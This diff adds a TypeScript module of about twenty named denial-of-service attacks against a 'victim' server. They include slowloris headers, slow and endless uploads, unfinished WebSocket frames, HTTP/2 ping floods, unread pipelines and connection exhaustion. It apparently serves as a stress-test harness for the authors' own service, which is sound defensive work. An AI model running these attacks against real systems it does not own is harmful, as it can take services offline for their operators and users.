@@ -1,0 +1,239 @@
+import type { Socket } from "node:net";
+import { countAnswers, dial, dialMany, sendWithoutEnd } from "./dial.ts";
+import { openSession } from "./session.ts";
+import type { Attack, Tally, Victim } from "./types.ts";
+
+const ENCODER = new TextEncoder();
+const MIB = 1024 * 1024;
+const ZEROS = new Uint8Array(256 * 1024);
+
+const get = ({ host }: Victim, path: string, fields = "") => `GET ${path} HTTP/1.1\r\nhost: ${host}\r\n${fields}\r\n`;
+const post = ({ host }: Victim, path: string, fields: string) =>
+  `POST ${path} HTTP/1.1\r\nhost: ${host}\r\n${fields}\r\n`;
+const upgrade = (victim: Victim, path: string) =>
+  get(
+    victim,
+    path,
+    "connection: Upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\n" +
+      "sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n",
+  );
+
+/** Chunks of the same size, as many as make a piece of 64 KiB or so. */
+function chunks(size: number): Uint8Array {
+  const chunk = `${size.toString(16)}\r\n${"x".repeat(size)}\r\n`;
+  return ENCODER.encode(chunk.repeat(Math.ceil(64 * 1024 / chunk.length)));
+}
+
+const CHUNKED = "transfer-encoding: chunked\r\n";
+
+/** A request of a head that is sent again with every answer. */
+function repeat(socket: Socket, head: string, tally: Tally): void {
+  countAnswers(socket, tally);
+  socket.on("data", () => void socket.write(head));
+  socket.write(head);
+}
+
+/** A frame's head for a binary message of that length of which no end comes, masked with zeros. */
+function unfinishedFrame(length: number): Uint8Array {
+  const head = new Uint8Array(14);
+  head.set([0x02, 0xff]);
+  new DataView(head.buffer).setBigUint64(2, BigInt(length));
+  return head;
+}
+
+function repeated(frame: readonly number[]): Uint8Array {
+  const bytes = new Uint8Array(Math.floor(64 * 1024 / frame.length) * frame.length);
+  for (let at = 0; at < bytes.length; at++) bytes[at] = frame[at % frame.length];
+  return bytes;
+}
+
+/** PING of the session in a WebSocket message of its own, both with no mask to speak of. */
+const SESSION_PING = [0x82, 0x80 | 18, 0, 0, 0, 0, 0, 0, 0, 8, 7, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8];
+const SOCKET_PING = [0x89, 0x80, 0, 0, 0, 0];
+
+/** Every attack by its name; what it does is one line each. */
+export const attacks: Readonly<Record<string, Attack>> = {
+  /** Heads that begin and never end. */
+  "half-heads": (victim, count, tally) =>
+    dialMany(victim, count, tally, (socket) => {
+      countAnswers(socket, tally);
+      socket.write(`GET / HTTP/1.1\r\nhost: ${victim.host}\r\nx-a: `);
+    }),
+
+  /** One answer each, then nothing. */
+  "idle": (victim, count, tally) =>
+    dialMany(victim, count, tally, (socket) => {
+      countAnswers(socket, tally);
+      socket.write(get(victim, "/"));
+    }),
+
+  /** Bodies of which a byte comes every five seconds. */
+  "slow-bodies": (victim, count, tally) =>
+    dialMany(victim, count, tally, (socket) => {
+      countAnswers(socket, tally);
+      socket.write(post(victim, "/upload", "content-length: 1000000\r\n") + "x");
+      setInterval(() => void socket.write("x"), 5000);
+    }),
+
+  /** Nobody reads an answer of a gigabyte. */
+  "no-readers": (victim, count, tally) =>
+    dialMany(victim, count, tally, (socket) => {
+      socket.pause();
+      socket.write(get(victim, "/large"));
+    }),
+
+  /** An upload without end to a service that reads a megabyte a second. */
+  "slow-target": (victim, count, tally) =>
+    dialMany(victim, count, tally, (socket) => {
+      socket.write(post(victim, "/slow", CHUNKED));
+      sendWithoutEnd(socket, chunks(16 * 1024), tally, 2 * 1024 * MIB);
+    }),
+
+  /** Requests with 10,000 fields. */
+  "request-fields": (victim, count, tally) => {
+    const fields = Array.from({ length: 10_000 }, (_, field) => `x${field}:1\r\n`).join("");
+    return dialAgain(victim, count, tally, (socket) => {
+      countAnswers(socket, tally);
+      socket.write(get(victim, "/", fields));
+    });
+  },
+
+  /** Requests with as many fields as a head has room for, to the server itself, which refuses them. */
+  "short-fields": (victim, count, tally) =>
+    dialAgain(victim, count, tally, (socket) => {
+      countAnswers(socket, tally);
+      socket.write(get({ ...victim, host: "localhost" }, "/health", "a:\r\n".repeat(7500)));
+    }),
+
+  /** Answers with 10,000 fields. */
+  "answer-fields": (victim, count, tally) =>
+    dialMany(victim, count, tally, (socket) => repeat(socket, get(victim, "/fields/10000"), tally)),
+
+  /** Uploads in chunks of 512 bytes. */
+  "chunks-512": (victim, count, tally) => sendChunks(victim, count, tally, 512),
+
+  /** Uploads in chunks of 64 bytes. */
+  "chunks-64": (victim, count, tally) => sendChunks(victim, count, tally, 64),
+
+  /** Uploads in chunks of a byte. */
+  "chunks-1": (victim, count, tally) => sendChunks(victim, count, tally, 1),
+
+  /** Messages of 60 MB through an upgrade, without an end, to a service that reads them. */
+  "unfinished-messages": (victim, count, tally) =>
+    dialMany(victim, count, tally, (socket) => {
+      socket.write(upgrade(victim, "/ws/sink"));
+      socket.once("data", () => {
+        socket.write(unfinishedFrame(1e9));
+        sendWithoutEnd(socket, ZEROS, tally, 60e6);
+      });
+    }),
+
+  /** Messages of 60 MB on sessions, without an end: a frame that is too large, and small ones that never stop. */
+  "unfinished-sessions": async (victim, count, tally) => {
+    for (let index = 0; index < count; index++) {
+      const socket = await openSession(victim, tally);
+      socket.write(unfinishedFrame(1e9));
+      // A DATA frame of a stream that never was is a fault, zeros too: so what follows is one frame's endless head.
+      sendWithoutEnd(socket, ZEROS, tally, 60e6);
+    }
+  },
+
+  /** PINGs of sessions, and of their WebSockets. */
+  "session-pings": async (victim, count, tally) => {
+    for (let index = 0; index < count; index++) {
+      const socket = await openSession(victim, tally);
+      sendWithoutEnd(socket, repeated(index % 2 === 0 ? SESSION_PING : SOCKET_PING), tally);
+    }
+  },
+
+  /** The same by a client that does not read the answers. */
+  "session-pings-unread": async (victim, count, tally) => {
+    for (let index = 0; index < count; index++) {
+      const socket = await openSession(victim, tally);
+      socket.pause();
+      sendWithoutEnd(socket, repeated(index % 2 === 0 ? SESSION_PING : SOCKET_PING), tally);
+    }
+  },
+
+  /** A service that pings through an upgrade without end, to a visitor who reads. */
+  "service-pings": (victim, count, tally) =>
+    dialMany(victim, count, tally, (socket) => {
+      socket.resume();
+      socket.write(upgrade(victim, "/ws/ping"));
+    }),
+
+  /** Bodies without end to a tunnel that is not there. */
+  "refused-senders": (victim, count, tally) =>
+    dialAgain(victim, count, tally, (socket) => {
+      countAnswers(socket, tally);
+      const [, ...domain] = victim.host.split(".");
+      socket.write(post({ ...victim, host: ["nobody", ...domain].join(".") }, "/", CHUNKED));
+      sendWithoutEnd(socket, chunks(16 * 1024), tally);
+    }),
+
+  /** Bodies without end to a service that has answered. */
+  "answered-senders": (victim, count, tally) =>
+    dialAgain(victim, count, tally, (socket) => {
+      countAnswers(socket, tally);
+      socket.write(post(victim, "/refuse", CHUNKED));
+      sendWithoutEnd(socket, chunks(16 * 1024), tally);
+    }),
+
+  /** What is no HTTP, without end. */
+  "noise-senders": (victim, count, tally) =>
+    dialAgain(victim, count, tally, (socket) => {
+      countAnswers(socket, tally);
+      sendWithoutEnd(socket, ZEROS, tally);
+    }),
+
+  /** WebSockets on which nothing is said. */
+  "idle-upgrades": (victim, count, tally) =>
+    dialMany(victim, count, tally, (socket) => {
+      countAnswers(socket, tally);
+      socket.write(upgrade(victim, "/ws"));
+    }),
+
+  /** Requests one behind the other, whose answers nobody reads. */
+  "pipelines": (victim, count, tally) => {
+    const requests = ENCODER.encode(get(victim, "/").repeat(500));
+    return dialMany(victim, count, tally, (socket) => {
+      socket.pause();
+      sendWithoutEnd(socket, requests, tally);
+    });
+  },
+
+  /** Visitors who come and go. */
+  "churn": (victim, count, tally) =>
+    dialAgain(victim, count, tally, (socket) => {
+      socket.write(get(victim, "/slow"));
+      setTimeout(() => socket.resetAndDestroy(), 5);
+    }),
+
+  /** Idle connections of one address, more than it may have. */
+  "one-address": async (victim, count, tally) => {
+    for (let index = 0; index < count; index++) {
+      const socket = await dial(victim, -255, tally);
+      if (socket !== null) countAnswers(socket, tally);
+    }
+  },
+};
+
+/** So many at a time: whoever is ended comes again. */
+async function dialAgain(victim: Victim, count: number, tally: Tally, begin: (socket: Socket) => void): Promise<void> {
+  const again = async (address: number): Promise<void> => {
+    const socket = await dial(victim, address, tally);
+    if (socket === null) return void setTimeout(again, 50, address);
+    socket.once("close", () => void again(address));
+    begin(socket);
+  };
+  await Promise.all(Array.from({ length: count }, (_, index) => again(1 + index)));
+}
+
+async function sendChunks(victim: Victim, count: number, tally: Tally, size: number): Promise<void> {
+  const bytes = chunks(size);
+  await dialMany(victim, count, tally, (socket) => {
+    countAnswers(socket, tally);
+    socket.write(post(victim, "/upload", CHUNKED));
+    sendWithoutEnd(socket, bytes, tally);
+  });
+}
